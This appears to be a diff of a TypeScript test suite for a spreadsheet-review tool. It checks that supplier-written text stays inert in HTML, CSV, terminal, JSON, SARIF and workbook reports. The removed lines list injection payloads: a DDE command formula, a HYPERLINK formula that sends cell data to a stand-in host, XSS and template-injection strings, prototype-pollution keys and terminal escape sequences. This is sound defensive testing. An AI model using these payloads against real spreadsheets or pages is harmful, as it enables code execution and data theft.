@@ -1,51 +1,14 @@
 /** Texts that would do something elsewhere, in every place of a return where a supplier can write: all of it stays text. */
-import { JSDOM } from 'jsdom';
-import Papa from 'papaparse';
-import { newWorkbook, readWorkbook } from '../../src/hosts/file';
 import { markupOf } from '../../src/markup';
-import { findingsAsCsv } from '../../src/reports/csv';
-import { reviewsAsHtml } from '../../src/reports/html/page';
-import { reviewsAsJson } from '../../src/reports/json';
 import type { ReviewedFile } from '../../src/reports/outcome';
-import { reviewsAsSarif } from '../../src/reports/sarif';
-import { PLAIN } from '../../src/reports/text/palette';
-import { outcomeAsText } from '../../src/reports/text/text';
 import { review } from '../../src/review';
-import { RULES } from '../../src/rules';
 import type { Markup } from '../../src/workbook/markup';
-import { formulaAt } from '../../src/workbook/snapshot';
 import { shippedAgreement } from '../agreement/shipped-agreement';
 import { addColumn, july, set, type Edit } from '../rules/return-workbook';
+import { ATTACKS } from './attacks';
+import { expectHarmlessReports, expectOnlyOurFormulas, reviewedFile } from './harmless';
 
 const agreement = shippedAgreement();
-
-const ATTACKS = [
-  '=HYPERLINK("http://x.example/?"&A1,"Click")',
-  "+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '-2+3',
-  '\t=1+1',
-  '＝1+1',
-  '<script>window.ran=1</script>',
-  '<img src=x onerror="window.ran=1">',
-  '"><svg/onload=window.ran=1>',
-  "' onmouseover='window.ran=1",
-  'javascript:window.ran=1',
-  '{{constructor.constructor("window.ran=1")()}}',
-  '${7*7}',
-  ']]><x/>',
-  '&lt;b&gt;',
-  '__proto__',
-  'constructor',
-  'toString',
-  '\u001b[2J\u001b]0;title\u0007',
-  '\u202Etxt.exe',
-  'a\u200Bb\u2066c\u2069',
-  'one\r\ntwo\nthree',
-  '"quoted", and; split',
-  '\ud800lone',
-  'x'.repeat(32_767),
-] as const;
 
 /** Places by sheet, row key and heading. */
 const PLACES: readonly (readonly [string, string, string])[] = [
@@ -62,8 +25,7 @@ const PLACES: readonly (readonly [string, string, string])[] = [
 function reviewedWith(...edits: readonly Edit[]): { readonly outcome: ReviewedFile; readonly markup: Markup } {
   const snapshot = july(...edits).snapshot();
   const made = review({ snapshot, agreement });
-  const outcome: ReviewedFile = { isReviewed: true, file: 'july.xlsx', review: made, earlier: [], agreement };
-  return { outcome, markup: markupOf({ review: made, snapshot, agreement }) };
+  return { outcome: reviewedFile(made, agreement), markup: markupOf({ review: made, snapshot, agreement }) };
 }
 
 /** Excel allows any name of up to 31 characters but a few signs. */
@@ -75,65 +37,34 @@ const renamed =
     workbook.sheets.splice(at, 1, copy);
   };
 
-/** Everything that a spreadsheet, a browser, a terminal or a program could take for more than text. */
-function expectHarmless({ outcome, markup }: ReturnType<typeof reviewedWith>): void {
-  const page = new JSDOM(reviewsAsHtml([outcome]), { runScripts: 'dangerously' }).window;
-  expect(page.document.querySelectorAll('script, img, svg, iframe, object, x, b')).toHaveLength(0);
-  expect(page).not.toHaveProperty('ran');
-  for (const element of page.document.querySelectorAll('*')) {
-    for (const { name, value } of element.attributes) expect(`${name}=${value}`).not.toMatch(/^on|^href=(?!#)/i);
-  }
-  const rows = Papa.parse<string[]>(findingsAsCsv([outcome]).slice(1), { skipEmptyLines: true }).data;
-  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s\u200B]*[=+\-@＝＋－＠](?!\d+(\.\d+)?$)/u);
-  expect(outcomeAsText(outcome, TERMINAL)).not.toMatch(/\p{Bidi_Control}|(?!\n)\p{Cc}/u);
-  const parsed: unknown = JSON.parse(reviewsAsJson([outcome]));
-  expect(Object.getPrototypeOf(parsed)).toBe(Object.prototype);
-  expect(
-    () => JSON.parse(reviewsAsSarif([outcome], { version: '1', rules: RULES.map(({ meta }) => meta) })) as unknown,
-  ).not.toThrow();
-  expectOnlyOurFormulas(markup);
-}
-
-const TERMINAL = { width: 100, palette: PLAIN, showAll: true, verdictOnly: false };
-
-/** Written to a workbook and read back, every text is a text and every formula is one that the mark-up meant. */
-function expectOnlyOurFormulas({ sheets }: Markup): void {
-  const written = readWorkbook(newWorkbook(sheets));
-  for (const [at, { cells, name }] of sheets.entries()) {
-    const sheet = written.sheets[at];
-    if (sheet?.name !== name) throw new Error(`The sheet ${name} was not written.`);
-    const ours = cells.filter(({ value }) => value.kind === 'formula').length;
-    const found = sheet.columns.reduce((sum, column) => sum + column.formulas.size, 0);
-    expect([name, found]).toEqual([name, ours]);
-    for (const { row, column, value } of cells) {
-      if (value.kind === 'formula') expect(formulaAt(sheet, row, column)).toBe(value.formula);
-    }
-  }
+async function expectHarmless({ outcome, markup }: ReturnType<typeof reviewedWith>): Promise<void> {
+  await expectHarmlessReports(outcome);
+  expectOnlyOurFormulas(markup.sheets);
 }
 
 describe('a text that would do something elsewhere', () => {
-  it.each(['Cover', 'KPIs', 'Activity', 'the others'])(
+  // Apart, since a return whose cover cannot be read shows little of the rest.
+  it.each(['the cover', 'the other sheets'])(
     'is text in every place of %s',
-    (table) => {
-      const tables = ['Cover', 'KPIs', 'Activity'];
-      const places = PLACES.filter(([sheet]) => (tables.includes(table) ? sheet === table : !tables.includes(sheet)));
+    async (table) => {
+      const places = PLACES.filter(([sheet]) => (sheet === 'Cover') === (table === 'the cover'));
       // In each turn every place holds another of them, so that each place comes to hold them all.
-      ATTACKS.forEach((_, turn) => {
+      for (const turn of ATTACKS.keys()) {
         const edits = places.map(([sheet, key, heading], at) =>
           set(sheet, key, heading, ATTACKS[(at + turn) % ATTACKS.length] ?? ''),
         );
-        expectHarmless(reviewedWith(...edits));
-      });
+        await expectHarmless(reviewedWith(...edits));
+      }
     },
-    120_000,
+    300_000,
   );
 
-  it('is text as the heading of a column and as the name of a sheet', () => {
+  it('is text as the heading of a column and as the name of a sheet', async () => {
     for (const attack of ATTACKS) {
       const name = attack.replace(/[\\/?*[\]:]/g, ' ').slice(0, 31);
-      expectHarmless(reviewedWith(addColumn('Days', attack), renamed('KPIs', name)));
+      await expectHarmless(reviewedWith(addColumn('Days', attack), renamed('KPIs', name)));
     }
-  }, 120_000);
+  }, 300_000);
 
   it('leaves the prototypes of the program alone', () => {
     expect(Object.keys(Object.prototype)).toEqual([]);
